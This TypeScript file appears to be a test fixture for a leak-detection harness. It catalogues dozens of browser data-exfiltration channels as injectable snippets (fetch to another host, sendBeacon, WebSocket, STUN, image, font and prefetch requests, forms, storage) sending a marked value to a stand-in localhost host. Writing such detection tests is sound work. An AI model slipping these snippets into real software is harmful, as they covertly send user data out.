/**
 * Leaks, one of each kind, as scripts that stand behind the built library or its worker. A mark names each, so that what is
 * found can be distinguished from what another one sends; `own` and `foreign` are addresses of the shop and of another host.
 */
export interface Plant {
  readonly code: string;
  /** How a line looks by which it is found. Default: it has the plant's mark. */
  readonly found?: RegExp;
  /** It ends the page, so it gets one of its own. */
  readonly endsPage?: true;
}

const element = (tag: string, properties: string): string =>
  `const element = document.createElement('${tag}'); ${properties} document.body.append(element);`;
const link = (rel: string, more = ''): string =>
  element('link', `element.rel = '${rel}'; ${more} element.href = foreign;`);

export const IN_PAGE: Readonly<Record<string, Plant>> = {
  'fetch of another host': { code: `fetch(foreign, { mode: 'no-cors' });` },
  'fetch with an id in the address': { code: `fetch(own);` },
  'fetch with a query to a file': { code: `fetch('/model/manifest.json?' + mark);` },
  'fetch with a path of its own': { code: `fetch('/model/' + mark);` },
  'fetch that sends a body': {
    code: `fetch('/model/manifest.json', { method: 'POST', body: 'item-9' });`,
    found: /^the server got POST \S+manifest\.json with a body/,
  },
  'fetch by another method': {
    code: `fetch('/model/items.json', { method: 'HEAD', cache: 'no-store' });`,
    found: /^the server got HEAD \S+items\.json/,
  },
  'fetch with a header of its own': {
    code: `fetch('/model/manifest.json', { headers: { 'x-aisle': '1' }, cache: 'no-store' });`,
    found: /with the header x-aisle: 1/,
  },
  'fetch with an id in a common header': {
    code: `fetch('/model/manifest.json', { headers: { 'accept-language': 'item-9' }, cache: 'no-store' });`,
    found: /with the header accept-language: item-9/,
  },
  'fetch that outlives the page': { code: `addEventListener('pagehide', () => fetch(own, { keepalive: true }));` },
  XMLHttpRequest: { code: `const request = new XMLHttpRequest(); request.open('GET', own); request.send();` },
  sendBeacon: { code: `navigator.sendBeacon(own, 'item-9');` },
  'sendBeacon when the page is left': {
    code: `addEventListener('pagehide', () => navigator.sendBeacon(own, 'item-9'));`,
  },
  WebSocket: { code: `new WebSocket(own.replace(/^/, 'ws://' + location.host));` },
  EventSource: { code: `new EventSource(own);` },
  WebTransport: { code: `new WebTransport('https://' + mark + '.localhost:9/');` },
  RTCPeerConnection: {
    code: `const peer = new RTCPeerConnection({ iceServers: [{ urls: 'stun:' + mark + '.localhost:9' }] });
      peer.createDataChannel('a'); peer.createOffer().then((offer) => peer.setLocalDescription(offer));`,
  },
  'an image': { code: `new Image().src = foreign;` },
  'a background': {
    code: element('p', `element.textContent = 'a'; element.style.backgroundImage = 'url(' + foreign + ')';`),
  },
  'a font': { code: `new FontFace('leak', 'url(' + foreign + ')').load().catch(() => {});` },
  'a video': { code: element('video', 'element.src = foreign;') },
  'a script': { code: element('script', 'element.src = own;') },
  'a module': { code: `import(own).catch(() => {});` },
  'a style sheet': { code: link('stylesheet') },
  'a preloaded file': { code: link('preload', `element.as = 'image';`) },
  'a prefetched file': { code: link('prefetch') },
  'a connection ahead': { code: link('preconnect') },
  'a name that is looked up ahead': { code: link('dns-prefetch') },
  'a frame': { code: element('iframe', 'element.src = foreign;') },
  'an object': { code: element('object', 'element.data = foreign;') },
  'a form into a frame': {
    code: `${element('iframe', `element.name = 'place';`)}
      const form = document.createElement('form'); form.action = own; form.target = 'place'; form.method = 'post';
      document.body.append(form); form.submit();`,
  },
  'a link that reports': {
    code: element('a', `element.href = '#x'; element.ping = foreign; queueMicrotask(() => element.click());`),
  },
  'another window': { code: `open(own);` },
  'a worker': { code: `new Worker(own);` },
  'a shared worker': { code: `new SharedWorker(own);` },
  'a service worker': { code: `navigator.serviceWorker.register(own).catch(() => {});` },
  'a worklet': { code: `CSS.paintWorklet.addModule(foreign).catch(() => {});` },
  'an address that later requests refer to': {
    code: `history.replaceState(null, '', '/?' + mark); fetch('/model/manifest.json', { cache: 'no-store' });`,
    found: /^\S+manifest\.json refers to \S+\/\?\S+/,
  },
  'a cookie': { code: `document.cookie = mark + '=item-9';` },
  'a cookie that is sent': {
    code: `document.cookie = 'sent=item-9'; fetch('/model/items.json', { cache: 'no-store' });`,
    found: /with the header cookie: .*item-9/,
  },
  'local storage': { code: `localStorage[mark] = 'item-9';`, found: /^stored in localStorage/ },
  'session storage': { code: `sessionStorage[mark] = 'item-9';`, found: /^stored in sessionStorage/ },
  'a cache': {
    code: `caches.open(mark).then((cache) => cache.put('/a', new Response('item-9')));`,
    found: /^stored in caches/,
  },
  'a file': {
    code: `navigator.storage.getDirectory().then((folder) => folder.getFileHandle(mark, { create: true }));`,
    found: /^stored in files/,
  },
  'another database': { code: `indexedDB.open(mark);`, found: /^stored in indexedDB/ },
  'another page': { code: `location.href = own;`, endsPage: true },
  'a form': { code: element('form', `element.action = own; queueMicrotask(() => element.submit());`), endsPage: true },
};

export const IN_WORKER: Readonly<Record<string, Plant>> = {
  'fetch of another host, in the worker': { code: `fetch(foreign, { mode: 'no-cors' });` },
  'fetch with an id in the address, in the worker': { code: `fetch(own);` },
  'fetch that sends a body, in the worker': {
    code: `fetch('/model/manifest.json', { method: 'PUT', body: 'item-9' });`,
    found: /^the server got PUT \S+manifest\.json with a body/,
  },
  'XMLHttpRequest, in the worker': {
    code: `const request = new XMLHttpRequest(); request.open('GET', own); request.send();`,
  },
  'WebSocket, in the worker': { code: `new WebSocket('ws://' + location.host + own);` },
  'EventSource, in the worker': { code: `new EventSource(own);` },
  'WebTransport, in the worker': { code: `new WebTransport('https://' + mark + '.localhost:9/');` },
  'a module, in the worker': { code: `import(own).catch(() => {});` },
  'a worker, in the worker': { code: `new Worker(own);` },
  'a font, in the worker': { code: `new FontFace('leak', 'url(' + foreign + ')').load().catch(() => {});` },
  'a cache, in the worker': { code: `caches.open(mark);`, found: /^stored in caches: worker/ },
  'another database, in the worker': { code: `indexedDB.open(mark);`, found: /^stored in indexedDB: worker/ },
};

/** A name that can stand in an address, a host and a database. */
export const markOf = (where: 'page' | 'worker', name: string): string =>
  `${where}-${name.toLowerCase().replace(/[^a-z]+/g, '-')}`.replace(/-$/, '');

/** The scripts of plants as one text, each in a scope of its own. They begin when the page has asked, and is watched. */
export function scriptOf(where: 'page' | 'worker', plants: Readonly<Record<string, Plant>>): string {
  const bodies = Object.entries(plants).map(([name, { code }]) => {
    const mark = markOf(where, name);
    const addresses = `const mark = '${mark}', own = '/' + mark + '?item=item-9';
      const foreign = location.protocol + '//' + mark + '.localhost:' + location.port + own;`;
    return `try { ${addresses} ${code} } catch (error) { console.warn('${mark}', String(error)); }`;
  });
  return `globalThis.plant = () => {\n${bodies.map((body) => `(() => { ${body} })();`).join('\n')}\n};`;
}
